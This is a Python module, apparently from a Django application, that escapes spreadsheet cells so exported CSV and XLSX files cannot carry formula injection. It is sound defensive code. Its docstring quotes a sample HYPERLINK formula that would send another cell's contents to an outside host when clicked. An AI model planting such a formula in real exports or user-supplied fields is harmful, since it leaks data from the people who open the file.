"""Cells of the spreadsheets the application writes hold data, never formulas (OWASP's CSV-injection rule).

A text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel or LibreOffice as a formula
(or a DDE command): a first name `=HYPERLINK("http://…?x="&B2;"Cliquez")` would leak another cell when clicked. Such
a text is written with a leading apostrophe, which the spreadsheet shows as text and never evaluates. Numbers,
dates and booleans are written as they are. Every CSV and XLSX writer passes its rows through `safe_row` (headers
included); `safe_cell` is the rule for one value.
"""

from django.utils.functional import Promise

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, Promise):  # a lazily translated label
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values):
    return [safe_cell(value) for value in values]
